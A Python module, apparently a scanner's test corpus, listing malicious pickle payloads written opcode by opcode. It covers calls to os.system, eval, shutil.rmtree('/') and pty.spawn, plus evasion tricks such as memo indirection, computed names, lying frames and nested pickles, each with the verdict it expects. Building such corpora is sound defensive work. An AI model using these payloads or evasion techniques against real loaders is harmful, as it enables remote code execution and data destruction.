"""Malicious pickles of every kind that is known, and what each would run. None of them is ever loaded.

Each is written opcode by opcode: where a trick needs its own protocol, framing or damage, ``pickle`` would not write it.
"""

from __future__ import annotations

import struct
from typing import NamedTuple

from .assembly import PROTO, STOP, call, name, pickled, put


class Trick(NamedTuple):
    """A pickle, the verdict it deserves, and a part of each reason that must be named."""

    data: bytes
    verdict: str = "unsafe"
    named: tuple[str, ...] = ("os.system",)


def short(text: str) -> bytes:
    """A text as protocol 4 writes it."""
    return b"\x8c" + bytes([len(text.encode())]) + text.encode()


def by_stack(module: str, inside: str) -> bytes:
    """A global as protocol 4 imports it."""
    return short(module) + short(inside) + b"\x93"


RUN = b"(S'id'\ntR"
"""Calls what is on the stack."""

TRICKS: dict[str, Trick] = {
    # What is called
    "os.system": Trick(pickled(call("os", "system", "id"))),
    "posix.system": Trick(pickled(call("posix", "system", "id")), named=("posix.system",)),
    "nt.system": Trick(pickled(call("nt", "system", "id")), named=("nt.system",)),
    "subprocess": Trick(pickled(call("subprocess", "Popen", ["id"])), named=("subprocess.Popen",)),
    "check_output": Trick(
        pickled(call("subprocess", "check_output", "id")), named=("subprocess.check_output",)
    ),
    "eval": Trick(pickled(call("builtins", "eval", "1")), named=("builtins.eval",)),
    "exec": Trick(pickled(call("builtins", "exec", "pass")), named=("builtins.exec",)),
    "open": Trick(pickled(call("builtins", "open", "/etc/passwd", "w")), named=("builtins.open",)),
    "io.open": Trick(pickled(call("io", "open", "/x", "w")), named=("io.open",)),
    "__import__": Trick(pickled(call("builtins", "__import__", "evil")), named=("builtins.__import__",)),
    "getattr": Trick(
        pickled(call("builtins", "getattr", call("builtins", "__import__", "os"), "system")),
        named=("builtins.getattr", "builtins.__import__"),
    ),
    "python 2's eval": Trick(pickled(call("__builtin__", "eval", "1")), named=("builtins.eval",)),
    "python 2's apply": Trick(pickled(call("__builtin__", "apply", name("os", "system"), ("id",)))),
    "python 2's commands": Trick(pickled(call("commands", "getoutput", "id")), named=("getoutput",)),
    "pip": Trick(pickled(call("pip", "main", ["install", "evil"])), named=("pip.main",)),
    "pip._internal": Trick(pickled(call("pip._internal.cli.main", "main", [])), named=("pip._internal",)),
    "runpy": Trick(pickled(call("runpy", "run_path", "/x.py")), named=("runpy.run_path",)),
    "runpy._run_code": Trick(pickled(call("runpy", "_run_code", "x", {})), named=("runpy._run_code",)),
    "torch.hub": Trick(pickled(call("torch.hub", "load", "evil/repo", "m")), named=("torch.hub.load",)),
    "torch.load": Trick(pickled(call("torch", "load", "/x.pt")), named=("torch.load",)),
    "torch.serialization": Trick(
        pickled(call("torch.serialization", "load", "/x")), named=("serialization.load",)
    ),
    "torch compile_file": Trick(
        pickled(call("torch._inductor.codecache", "compile_file", "", "", ["sh"])), named=("compile_file",)
    ),
    "torch collect_env": Trick(
        pickled(call("torch.utils.collect_env", "run", "id")), named=("collect_env.run",)
    ),
    "torch bottleneck": Trick(
        pickled(call("torch.utils.bottleneck.__main__", "run_cprofile", "x", {})), named=("run_cprofile",)
    ),
    "torch ConfigModule": Trick(
        pickled(call("torch.utils._config_module", "ConfigModule.load_config", b"")), named=("load_config",)
    ),
    "torch decoder": Trick(
        pickled(call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", b"")),
        named=("basichandlers",),
    ),
    "torch ShapeEnv": Trick(
        pickled(call("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "x")),
        named=("ShapeEnv",),
    ),
    "torch GuardBuilder": Trick(
        pickled(call("torch._dynamo.guards", "GuardBuilder.get", "x")), named=("GuardBuilder",)
    ),
    "torch execWrapper": Trick(
        pickled(call("torch.jit.unsupported_tensor_ops", "execWrapper", "x", {}, {})), named=("execWrapper",)
    ),
    "numpy.testing": Trick(
        pickled(call("numpy.testing._private.utils", "runstring", "x", {})),
        named=("numpy.testing._private.utils.runstring",),
    ),
    "numpy.f2py": Trick(
        pickled(call("numpy.f2py.crackfortran", "getlincoef", "x", {})), named=("getlincoef",)
    ),
    "numpy.load": Trick(pickled(call("numpy", "load", "/x.npy", None, True)), named=("numpy.load",)),
    "pickle.loads": Trick(pickled(call("pickle", "loads", b"\x80\x04N.")), named=("pickle.loads",)),
    "_pickle.loads": Trick(pickled(call("_pickle", "loads", b"N.")), named=("_pickle.loads",)),
    "joblib.load": Trick(pickled(call("joblib", "load", "/x")), named=("joblib.load",)),
    "pandas.read_pickle": Trick(pickled(call("pandas", "read_pickle", "/x")), named=("pandas.read_pickle",)),
    "dill": Trick(pickled(call("dill._dill", "_create_function", 1)), named=("dill._dill",)),
    "cloudpickle": Trick(
        pickled(call("cloudpickle.cloudpickle", "_make_function", 1)), named=("_make_function",)
    ),
    "types.CodeType": Trick(pickled(call("types", "CodeType", 0, 0)), named=("types.CodeType",)),
    "types.FunctionType": Trick(pickled(call("types", "FunctionType", 0, {})), named=("types.FunctionType",)),
    "functools.partial": Trick(pickled(call("functools", "partial", name("os", "system"), "id"))),
    "operator.attrgetter": Trick(
        pickled(call("operator", "attrgetter", "system")), named=("operator.attrgetter",)
    ),
    "operator.methodcaller": Trick(
        pickled(call("_operator", "methodcaller", "system", "id")), named=("methodcaller",)
    ),
    "importlib": Trick(pickled(call("importlib", "import_module", "os")), named=("importlib.import_module",)),
    "pkgutil": Trick(pickled(call("pkgutil", "resolve_name", "os:system")), named=("pkgutil.resolve_name",)),
    "pydoc": Trick(pickled(call("pydoc", "pipepager", "x", "id")), named=("pydoc.pipepager",)),
    "pty": Trick(pickled(call("pty", "spawn", "sh")), named=("pty.spawn",)),
    "code": Trick(pickled(call("code", "InteractiveInterpreter.runcode", "x")), named=("runcode",)),
    "bdb": Trick(pickled(call("bdb", "Bdb.run", "x")), named=("bdb.Bdb.run",)),
    "pdb": Trick(pickled(call("pdb", "run", "x")), named=("pdb.run",)),
    "cProfile": Trick(pickled(call("cProfile", "run", "x")), named=("cProfile.run",)),
    "profile": Trick(pickled(call("profile", "Profile.run", "x")), named=("profile.Profile.run",)),
    "trace": Trick(pickled(call("trace", "Trace.run", "x")), named=("trace.Trace.run",)),
    "timeit": Trick(pickled(call("timeit", "timeit", "x")), named=("timeit.timeit",)),
    "doctest": Trick(pickled(call("doctest", "debug_script", "x")), named=("doctest.debug_script",)),
    "ensurepip": Trick(pickled(call("ensurepip", "_run_pip", [])), named=("ensurepip._run_pip",)),
    "venv": Trick(pickled(call("venv", "main", [])), named=("venv.main",)),
    "test.support": Trick(
        pickled(call("test.support.script_helper", "assert_python_ok", "-c", "x")),
        named=("assert_python_ok",),
    ),
    "idlelib": Trick(pickled(call("idlelib.run", "Executive.runcode", "x")), named=("idlelib.run",)),
    "lib2to3": Trick(pickled(call("lib2to3.pgen2.grammar", "Grammar.loads", b"")), named=("Grammar.loads",)),
    "uuid": Trick(pickled(call("uuid", "_get_command_stdout", "id")), named=("_get_command_stdout",)),
    "_osx_support": Trick(pickled(call("_osx_support", "_read_output", "id")), named=("_read_output",)),
    "_aix_support": Trick(
        pickled(call("_aix_support", "_read_cmd_output", "id")), named=("_read_cmd_output",)
    ),
    "_pyrepl": Trick(pickled(call("_pyrepl.pager", "pipe_pager", "x", "id")), named=("pipe_pager",)),
    "imaplib": Trick(pickled(call("imaplib", "IMAP4_stream", "id")), named=("IMAP4_stream",)),
    "ctypes": Trick(pickled(call("ctypes", "CDLL", "evil.so")), named=("ctypes.CDLL",)),
    "shutil": Trick(pickled(call("shutil", "rmtree", "/")), named=("shutil.rmtree",)),
    "distutils": Trick(pickled(call("distutils.file_util", "write_file", "/x", [])), named=("write_file",)),
    "logging.FileHandler": Trick(
        pickled(call("logging", "FileHandler", "/x")), named=("logging.FileHandler",)
    ),
    "_io.FileIO": Trick(pickled(call("_io", "FileIO", "/x", "w")), named=("_io.FileIO",)),
    "socket": Trick(
        pickled(call("socket", "create_connection", ("x", 1))), named=("socket.create_connection",)
    ),
    "ssl": Trick(pickled(call("ssl", "get_server_certificate", ("x", 1))), named=("get_server_certificate",)),
    "http.client": Trick(pickled(call("http.client", "HTTPSConnection", "x")), named=("HTTPSConnection",)),
    "python 2's httplib": Trick(pickled(call("httplib", "HTTPSConnection", "x")), named=("HTTPSConnection",)),
    "urllib": Trick(
        pickled(call("urllib.request", "urlopen", "http://x")), named=("urllib.request.urlopen",)
    ),
    "requests": Trick(pickled(call("requests.api", "get", "http://x")), named=("requests.api.get",)),
    "aiohttp": Trick(pickled(call("aiohttp", "request", "x")), named=("aiohttp.request",)),
    "webbrowser": Trick(pickled(call("webbrowser", "open", "http://x")), named=("webbrowser.open",)),
    "asyncio": Trick(
        pickled(call("asyncio.unix_events", "_UnixSubprocessTransport._start", 1)),
        named=("asyncio.unix_events",),
    ),
    "sys.modules": Trick(pickled(name("sys", "modules")), named=("sys.modules",)),
    "keras": Trick(pickled(call("keras.saving.saving_api", "load_model", "x")), named=("keras.saving",)),
    # By way of modules that others have imported
    "dotted": Trick(PROTO + by_stack("torch.serialization", "os.system") + RUN + STOP),
    "dotted through a framework": Trick(
        PROTO + by_stack("numpy", "os.system") + RUN + STOP, named=("numpy.os.system",)
    ),
    "dotted to eval": Trick(
        PROTO + by_stack("collections", "OrderedDict.__reduce__.__builtins__") + STOP, named=("__builtins__",)
    ),
    # How it is called
    "inst": Trick(b"(S'id'\nios\nsystem\n."),
    "obj": Trick(PROTO + b"(" + name("os", "system").code + put("id") + b"o" + STOP),
    "newobj": Trick(PROTO + name("os", "system").code + put(("id",)) + b"\x81" + STOP),
    "newobj_ex": Trick(b"\x80\x04" + by_stack("os", "system") + put(("id",)) + b"}\x92" + STOP),
    "build": Trick(PROTO + name("os", "system").code + b")\x81" + put({"x": 1}) + b"b" + STOP),
    "protocol 0": Trick(b"cos\nsystem\n(S'id'\ntR."),
    "protocol 1": Trick(b"cos\nsystem\nq\x00(U\x02idq\x01tq\x02Rq\x03."),
    "protocol 4": Trick(
        b"\x80\x04\x95\x20\0\0\0\0\0\0\0"
        + by_stack("os", "system")
        + b"\x94"
        + short("id")
        + b"\x94\x85\x94R\x94."
    ),
    "protocol 5": Trick(b"\x80\x05" + by_stack("os", "system") + short("id") + b"\x85R."),
    "a protocol that is none": Trick(b"\x80\x2a" + name("os", "system").code + RUN + STOP, verdict="unsafe"),
    # Names that are not where a scanner looks for them
    "from the memo": Trick(
        PROTO + short("os") + b"\x94" + short("system") + b"\x9400h\x00h\x01\x93" + RUN + STOP
    ),
    "from the memo, overwritten": Trick(
        PROTO
        + short("math")
        + b"q\x00"
        + short("os")
        + b"q\x00"
        + b"00h\x00"
        + short("system")
        + b"\x93"
        + RUN
        + STOP
    ),
    "from a far place in the memo": Trick(
        PROTO
        + short("os")
        + b"r\xff\xff\xff\x7f"
        + short("system")
        + b"p77\n00j\xff\xff\xff\x7fg77\n\x93"
        + RUN
        + STOP
    ),
    "doubled": Trick(
        PROTO
        + short("system")
        + b"2"
        + b"0"
        + short("os")
        + b"q\x050h\x05"
        + short("system")
        + b"\x93"
        + RUN
        + STOP
    ),
    "swept between": Trick(PROTO + short("os") + b"N0(NNN1" + short("system") + b"]0\x93" + RUN + STOP),
    "old texts": Trick(PROTO + b"U\x02osS'sys\\x74em'\n\x93" + RUN + STOP),
    "unicode escapes": Trick(PROTO + b"Vo\\u0073\nVsystem\n\x93" + RUN + STOP),
    "a name out of a tuple": Trick(
        PROTO
        + call("_codecs", "encode", "bf", "rot13").code
        + call("_codecs", "encode", "flfgrz", "rot13").code
        + b"\x93"
        + RUN
        + STOP,
        named=("by a name that is made while loading",),
    ),
    "a name that is computed": Trick(
        PROTO + call("builtins", "str", b"os", "ascii").code + short("system") + b"\x93" + RUN + STOP,
        named=("by a name that is made while loading",),
    ),
    "extension": Trick(PROTO + b"\x82\x07" + RUN + STOP, named=("extension 7",)),
    "extension 2": Trick(PROTO + b"\x83\x00\x01" + RUN + STOP, named=("extension 256",)),
    "extension 4": Trick(PROTO + b"\x84\x01\x00\x01\x00" + RUN + STOP, named=("extension 65537",)),
    # Harmless parts that do harm together
    "a call of what a call returned": Trick(
        PROTO + call("collections", "OrderedDict").code + b"(tR" + STOP,
        named=("a call of what another call returned",),
    ),
    "a class that is changed": Trick(
        PROTO + name("torch.nn.modules.module", "Module").code + put((None, {"forward": 1})) + b"b" + STOP,
        named=("a change of torch.nn.modules.module.Module itself",),
    ),
    "a function that is filled": Trick(
        PROTO + name("collections", "OrderedDict").code + put("x") + put(1) + b"s" + STOP,
        named=("a change of",),
    ),
    "bytes that load a pickle": Trick(
        pickled(call("torch.storage", "_load_from_bytes", pickled(call("os", "system", "id"))))
    ),
    "bytes that are made and loaded": Trick(
        pickled(call("torch.storage", "_load_from_bytes", call("builtins", "bytes", [128, 4]))),
        named=("torch.storage._load_from_bytes",),
    ),
    "a loader handed on": Trick(
        pickled(call("collections", "defaultdict", name("torch.storage", "_load_from_bytes"))),
        named=("torch.storage._load_from_bytes",),
    ),
    "a loader that another calls": Trick(
        pickled(
            call(
                "torch._tensor",
                "_rebuild_from_type_v2",
                name("torch.storage", "_load_from_bytes"),
                1,
                (b"\x80\x04N.",),
                1,
            )
        ),
        named=("torch.storage._load_from_bytes",),
    ),
    "a loader behind a persistent ID": Trick(
        PROTO
        + put(("module", name("torch.storage", "_load_from_bytes"), 1, 2))
        + b"Qq\x050h\x05"
        + put((b"\x80\x04N.",))
        + b"R0"
        + STOP,
        named=("torch.storage._load_from_bytes",),
    ),
    "a call of what is stored elsewhere": Trick(
        PROTO + put("id") + b"Q(tR" + STOP, named=("a call of what another call returned",)
    ),
    "a pickle in bytes": Trick(pickled({"data": pickled(call("os", "system", "id"))})),
    "a pickle in bytes in bytes": Trick(
        pickled({"data": pickled({"data": pickled(call("os", "system", "id"))})})
    ),
    "a pickle in a text of python 2": Trick(
        pickled(
            {"a": call("_codecs", "encode", pickled(call("os", "system", "id")).decode("latin-1"), "latin1")}
        )
    ),
    "a pickle without its mark in bytes": Trick(pickled({"data": b"cos\nsystem\n" + RUN + STOP})),
    # Damage: what runs before it has run
    "no end": Trick(PROTO + call("os", "system", "id").code),
    "an import at the end": Trick(PROTO + b"cantigravity\n", named=("antigravity.",)),
    "cut in the middle": Trick(PROTO + call("os", "system", "id").code + b"X\xff\0\0\0ab"),
    "an opcode that is none": Trick(PROTO + call("os", "system", "id").code + b"\xffgarbage"),
    "an empty stack": Trick(PROTO + b"0000" + call("os", "system", "id").code + STOP),
    "a number that is none": Trick(PROTO + b"Inope\n0" + call("os", "system", "id").code + STOP),
    "a number in base 16": Trick(PROTO + b"I0x41\n0" + call("os", "system", "id").code + STOP),
    "a number in base 16, and no mark": Trick(b"I0x41\n0cos\nsystem\n" + RUN + STOP),
    "a text that is not UTF-8": Trick(PROTO + b"X\x01\0\0\0\xff0" + call("os", "system", "id").code + STOP),
    "a memo that lies": Trick(PROTO + b"h\x99" + b"0" + call("os", "system", "id").code + STOP),
    "frames that lie": Trick(
        b"\x80\x04\x95\x02\0\0\0\0\0\0\0N0" + by_stack("os", "system") + short("id") + b"\x85R."
    ),
    "a frame that ends within a text": Trick(
        b"\x80\x04\x95\x04\0\0\0\0\0\0\0\x8c\x04ab" + b"cdU\x15cos\nsystem\n" + RUN + b".N.",
        named=("frames that don't end where",),
    ),
    "frames within each other": Trick(
        b"\x80\x04\x95\x20\0\0\0\0\0\0\0\x95\x02\0\0\0\0\0\0\0N0" + b"N0" * 20 + b".",
        named=("frames that don't end where",),
    ),
    # Who loads one pickle after the other goes on behind the frame, where a scanner that does not know sees bytes.
    "a frame that goes on behind its pickle": Trick(
        b"\x80\x04\x95\x0c\0\0\0\0\0\0\0N.\x80\x04B\x18\0\0\0\xff\xff\xff" + b"cos\nsystem\n" + RUN + b"N.",
        named=("frames that don't end where",),
    ),
    "a frame beyond the end": Trick(
        b"\x80\x04\x95" + b"\xff" * 7 + b"\x7f" + by_stack("os", "system") + short("id") + b"\x85R."
    ),
    "after a long text": Trick(PROTO + put("x" * 100_000) + b"0" + call("os", "system", "id").code + STOP),
    "after long bytes": Trick(PROTO + put(b"\0" * 300_000) + b"0" + call("os", "system", "id").code + STOP),
    "after many opcodes": Trick(PROTO + b"N0" * 100_000 + call("os", "system", "id").code + STOP),
    "a long number": Trick(
        PROTO
        + b"\x8b"
        + struct.pack("<I", 200_000)
        + b"\1" * 200_000
        + b"0"
        + call("os", "system", "id").code
        + STOP
    ),
    # Several pickles
    "the second of two": Trick(pickled([1, 2]) + pickled(call("os", "system", "id"))),
    "the third of three, without its mark": Trick(pickled(1) + b"N." + b"cos\nsystem\n" + RUN + STOP),
    # Names that nobody knows
    "unknown": Trick(pickled(call("shop.models", "Ranker", 1)), "unknown", ("shop.models.Ranker",)),
    "unknown, only imported": Trick(pickled(name("shop", "Ranker")), "unknown", ("shop.Ranker",)),
    "a name of a framework that is not on the list": Trick(
        pickled(call("torch.nn.modules.module", "register_module_forward_hook", 1)),
        "unknown",
        ("register_module_forward_hook",),
    ),
    "a class that may not be called": Trick(
        pickled(call("transformers.training_args", "TrainingArguments", "/x")),
        "unknown",
        ("TrainingArguments",),
    ),
    "a name like one on the list": Trick(
        pickled(call("Collections", "OrderedDict")), "unknown", ("Collections.OrderedDict",)
    ),
    "a name with a space": Trick(
        pickled(call("collections ", "OrderedDict")), "unknown", ("collections .OrderedDict",)
    ),
    "a part of a name on the list": Trick(
        pickled(call("collections", "OrderedDict.fromkeys", [1])),
        "unknown",
        ("collections.OrderedDict.fromkeys",),
    ),
    "TorchScript's names outside of TorchScript": Trick(
        pickled(call("__torch__.m", "Net")), "unknown", ("__torch__.m.Net",)
    ),
}
